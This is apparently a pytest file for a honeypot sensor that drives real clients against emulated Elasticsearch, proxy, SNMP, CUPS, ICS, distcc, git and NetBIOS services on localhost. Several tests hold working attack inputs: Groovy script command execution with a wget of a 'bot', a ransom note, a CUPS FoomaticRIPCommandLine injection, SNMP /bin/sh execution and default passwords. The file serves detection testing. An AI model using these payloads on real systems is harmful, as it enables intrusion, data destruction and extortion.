"""Real clients at whole sensors: of search engines, proxies, networks' managers, printers, repositories, plants."""

from __future__ import annotations

import asyncio
import json
import socket
from pathlib import Path
from typing import Any

import pytest

from end_to_end.test_device_clients import said
from eudaemon.payload.fetch.policy import FetchSettings
from eudaemon.protocols._windows import server_of
from eudaemon.protocols.git.repository import NAMES, repository_of
from eudaemon.protocols.ipp import message as ipp
from eudaemon.protocols.java import bound, t3_version
from eudaemon.protocols.modbus import device_of
from eudaemon.protocols.s7 import module_of
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed
from payload.servers import saying, serving, tool
from sensor.harness import SEED, events, running

HOST = Host.from_seed(Seed(SEED))
PASSWORDS = (b"root", b"admin", b"12345", b"xc3511", b"password", b"1234", b"")
LAB = FetchSettings(lab_networks=("127.0.0.0/8",))


def facts(home: Path, kind: str) -> list[Any]:
    assert not events(home, "sensor.faulted")
    return [event.fact for event in events(home, kind)]


async def test_elasticsearch_with_curl(tmp_path: Path) -> None:
    curl = tool("curl", "curl")
    script = 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("{}").getText()'
    async with serving(saying(b"HTTP/1.0 200 OK\r\n\r\n\x7fELFx")) as web, running(
        tmp_path, "elasticsearch", fetch=LAB
    ) as net:  # fmt: skip
        where = f"http://127.0.0.1:{net.port}"
        for line, printed in (("id -u", "0\n"), (f"wget -q http://127.0.0.1:{web}/bot", "")):
            body = json.dumps({"size": 1, "script_fields": {"x": {"script": script.format(line)}}})
            found = json.loads(await said(curl, "-s", f"{where}/_search", "-d", body))
            assert found["hits"]["hits"][0]["fields"]["x"] == [printed]
        assert json.loads(await said(curl, "-s", "-XDELETE", f"{where}/*"))["acknowledged"] is True
        note = json.dumps({"note": "send 0.1 BTC to restore your data"})
        assert b'"created":true' in await said(curl, "-s", f"{where}/readme/note/1", "-d", note)
        assert b"readme" in await said(curl, "-s", f"{where}/_cat/indices?v")
    assert [fact.size for fact in facts(tmp_path, "artefact.kept") if fact.origin == "download"] == [5]
    assert "elasticsearch-ransom" in {fact.name for fact in facts(tmp_path, "exploit.recognised")}


async def test_squid_as_curl_sees_it(tmp_path: Path) -> None:
    curl = tool("curl", "curl")
    async with running(tmp_path, "proxy+socks") as net:
        where = f"127.0.0.1:{net.port}"
        answer = await said(curl, "-si", "-x", where, "-U", "a:b", "http://127.0.0.1:9/")
        assert answer.split(b" ")[1] in (b"407", b"503")
        assert b"\r\nServer: squid/" in answer
        await said(curl, "-s", "-x", where, "https://127.0.0.1:9/", code=56)
    asked = [(fact.protocol, fact.action, fact.host, fact.port) for fact in facts(tmp_path, "proxy.asked")]
    assert ("http", "GET", "127.0.0.1", 9) in asked
    assert ("http", "CONNECT", "127.0.0.1", 9) in asked
    assert ("a", "b") in {(fact.user, fact.password) for fact in facts(tmp_path, "login.tried")}


@pytest.mark.parametrize(
    ("scheme", "protocol", "host"),
    [
        ("socks4", "socks4", "127.0.0.1"), ("socks4a", "socks4a", "example.invalid"),
        ("socks5", "socks5", "127.0.0.1"), ("socks5h", "socks5", "example.invalid"),
    ],
)  # fmt: skip
async def test_socks_as_curl_speaks_it(scheme: str, protocol: str, host: str, tmp_path: Path) -> None:
    curl = tool("curl", "curl")
    user, password = next((user, word) for user in HOST.users for word in PASSWORDS if HOST.accepts(user, word))
    login = f"{user.decode()}:{password.decode()}@" if protocol == "socks5" else ""
    async with running(tmp_path, "socks+proxy") as net:
        await said(curl, "-s", "-x", f"{scheme}://{login}127.0.0.1:{net.port}", f"http://{host}:8080/", code=97)
    (asked,) = facts(tmp_path, "proxy.asked")
    assert (asked.protocol, asked.action, asked.host, asked.port) == (protocol, "connect", host, 8080)


async def test_snmp_with_its_own_tools(tmp_path: Path) -> None:
    get, walk, change, bulk = (tool(name, "snmp") for name in ("snmpget", "snmpwalk", "snmpset", "snmpbulkwalk"))
    quick = ("-t", "0.05", "-r", "20")
    async with running(tmp_path, "snmp", transport="udp") as net:
        where = f"127.0.0.1:{net.port}"
        walked = await said(walk, "-v2c", "-c", "public", *quick, where, ".1.3.6.1.2.1.1")
        assert HOST.kernel.encode() in walked
        assert walked.count(b" = ") == 7
        assert HOST.name.encode() in await said(bulk, "-v2c", "-c", "public", *quick, where, ".1.3.6.1.2.1.1.5")
        assert await said(get, "-v1", "-c", "public", "-Oqv", *quick, where, ".1.3.6.1.2.1.1.7.0") == b"72\n"
        tried = ("-v3", "-l", "authNoPriv", "-u", "root", "-a", "MD5", "-A", "rootroot", *quick)
        assert b"Authentication failure" in await said(get, *tried, where, ".1.3.6.1.2.1.1.5.0", code=1)
    (tmp_path / "tcp").mkdir()
    async with running(tmp_path / "tcp", "snmp") as net:
        where = f"tcp:127.0.0.1:{net.port}"
        assert (await said(walk, "-v2c", "-c", "public", where, ".1")).count(b" = ") > 60
        row = ".1.3.6.1.4.1.8072.1.3.2.2.1"
        await said(
            change, "-v2c", "-c", "private", where, f"{row}.2.1.97", "s", "/bin/sh", f"{row}.3.1.97", "s",
            "-c 'id -u'", f"{row}.21.1.97", "i", "4",
        )  # fmt: skip
    assert {(fact.user, fact.scheme) for fact in facts(tmp_path, "login.answered")} == {("root", "snmp")}
    for closed in facts(tmp_path, "session.closed"):
        assert closed.bytes_out <= closed.bytes_in
    assert "id -u" in {fact.line for fact in facts(tmp_path / "tcp", "command.entered")}


async def test_a_printer_as_cups_has_it(tmp_path: Path) -> None:
    ipptool, lp = tool("ipptool", "cups-ipp-utils"), tool("lp", "cups-client")
    document = tmp_path / "document"
    document.write_bytes(b"%!PS\n" + bytes(range(256)) * 40)
    async with running(tmp_path, "ipp") as net:
        where = f"127.0.0.1:{net.port}"
        uri = f"ipp://{where}/printers/x"
        assert b"[FAIL]" not in await said(ipptool, "-tv", uri, "get-printer-attributes.test")
        assert b"[FAIL]" not in await said(ipptool, "-tf", str(document), uri, "print-job.test")
        await said(lp, "-h", where, "-t", "invoice", str(document))
    kept = [(fact.name, fact.size) for fact in facts(tmp_path, "artefact.kept")]
    assert ("invoice", document.stat().st_size) in kept
    assert len(kept) == 2
    assert "Get-Printer-Attributes" in " ".join(fact.line for fact in facts(tmp_path, "command.entered"))


async def test_a_printer_that_is_announced(tmp_path: Path) -> None:
    """The attack of September 2024: a datagram, a printer that asks to be asked, and a command in what it says."""
    heard: list[bytes] = []

    async def printer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.readuntil(b"\r\n\r\n"))
        heard.append(await reader.readexactly(int(heard[0].split(b"Content-Length: ")[1].split(b"\r\n")[0])))
        value = b'https://a/"\n*FoomaticRIPCommandLine: "echo 1 > /tmp/pwned"\n*cupsFilter2 : "a b 0 foomatic-rip'
        body = b"\2\0\0\0\0\0\0\1\4\x45\0\x1aprinter-privacy-policy-uri" + len(value).to_bytes(2, "big") + value + b"\3"
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)

    async with serving(printer) as port, running(tmp_path, "ipp", transport="udp", fetch=LAB) as net:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.sendto(b'0 3 http://127.0.0.1:%d/printers/evil "Office" "HP"' % port, ("127.0.0.1", net.port))
            await net.until("command.entered")
    assert heard[0].startswith(b"POST /printers/evil HTTP/1.1\r\n")
    assert ipp.read(heard[1]).operation == 0x000B
    assert [fact.line for fact in facts(tmp_path, "command.entered")] == ["echo 1 > /tmp/pwned"]
    assert {fact.reference for fact in facts(tmp_path, "exploit.recognised")} == {"CVE-2024-47176", "CVE-2024-47177"}


async def test_plants_as_nmap_sees_them(tmp_path: Path) -> None:
    nmap = tool("nmap", "nmap")
    more = {"addresses": ("127.77.0.3",), "listen": ("modbus tcp 502", "s7 tcp 102", "pptp tcp 1723")}
    async with running(tmp_path, "modbus", **more):
        scripts = "modbus-discover,s7-info,pptp-version"
        scan = (await said(nmap, "-Pn", "-n", "-p", "102,502,1723", "--script", scripts, "127.77.0.3")).decode()
    module = module_of(HOST)
    assert f"Module: {module.order.rstrip()}" in scan
    assert f"Serial Number: {module.serial}" in scan
    assert f"Version: {'.'.join(map(str, module.version))}" in scan
    assert device_of(HOST)[0] in scan
    said_by = " ".join(fact.line for fact in facts(tmp_path, "command.entered"))
    assert "list 0x001c/1" in said_by
    assert "report server id" in said_by


async def test_javas_doors_and_a_compiler_as_nmap_sees_them(tmp_path: Path) -> None:
    nmap = tool("nmap", "nmap")
    asked = {"3632": "distcc-cve2004-2687", "1099": "rmi-dumpregistry", "7001": "weblogic-t3-info"}
    listen = ("distcc tcp 3632", "java tcp 1099", "http+java tcp 7001")
    async with running(tmp_path, "distcc", addresses=("127.77.0.5",), listen=listen):
        scans = await asyncio.gather(*(
            said(nmap, "-Pn", "-n", "-p", port, "--script", f"+{script}", "127.77.0.5")
            for port, script in asked.items()
        ))  # fmt: skip
    scan = b"".join(scans).decode()
    assert "VULNERABLE (Exploitable)" in scan
    assert "uid=0(root)" in scan, "what the command printed"
    assert f"T3 protocol in use (WebLogic version: {t3_version(HOST)})" in scan
    assert all(name in scan for name in bound(HOST))
    assert {fact.name for fact in facts(tmp_path, "exploit.recognised")} == {"distcc-command"}
    assert "registry: list" in {fact.line for fact in facts(tmp_path, "command.entered")}


async def test_git_clones_and_pushes(tmp_path: Path) -> None:
    git = tool("git", "git")
    name = next(name for name in NAMES if repository_of(HOST, name))
    place = tmp_path / "clone"
    (tmp_path / "home").mkdir()
    me = ("-c", "user.name=a", "-c", "user.email=a@b", "-c", "init.defaultBranch=master")
    async with running(tmp_path / "home", "git") as net:
        url = f"git://127.0.0.1:{net.port}/srv/{name}.git"
        await said(git, "clone", "--quiet", "--depth", "1", url, str(tmp_path / "shallow"))
        await said(git, "clone", "--quiet", url, str(place))
        await said(git, "-C", str(place), "fsck", "--strict")
        assert "password = " in (place / "config.ini").read_text()
        (place / "bot.sh").write_bytes(b"#!/bin/sh\n" + bytes(range(256)) * 500)
        await said(git, "-C", str(place), "add", "bot.sh")
        await said(git, "-C", str(place), *me, "commit", "--quiet", "-m", "x")
        assert b" -> master" in await said(git, "-C", str(place), "push", "origin", "HEAD")
        missing = await said(git, "ls-remote", f"git://127.0.0.1:{net.port}/nothing", code=128)
        assert b"access denied or repository not exported: /nothing" in missing
    (kept,) = facts(tmp_path / "home", "artefact.kept")
    assert not kept.partial
    packed = (tmp_path / "home" / "artefacts" / kept.sha256).read_bytes()
    verified = await said(git, "-C", str(place), "index-pack", "--fix-thin", "--stdin", given=packed)
    assert verified.startswith(b"pack\t")


@pytest.mark.soak  # it asks again a second later, three times
async def test_names_as_samba_asks_for_them(tmp_path: Path) -> None:
    lookup, windows = tool("nmblookup", "samba-common-bin"), server_of(HOST)
    more = {"addresses": ("127.77.0.4",), "listen": ("netbios udp 137",)}
    async with running(tmp_path, "netbios", transport="udp", **more):
        shown = await said(lookup, "-A", "127.77.0.4")
    assert f"{windows.name.upper():<15} <20>" in shown.decode()
    assert windows.machine.mac.encode() in shown
    assert {fact.line for fact in facts(tmp_path, "command.entered")} == {"NBSTAT *<00>"}
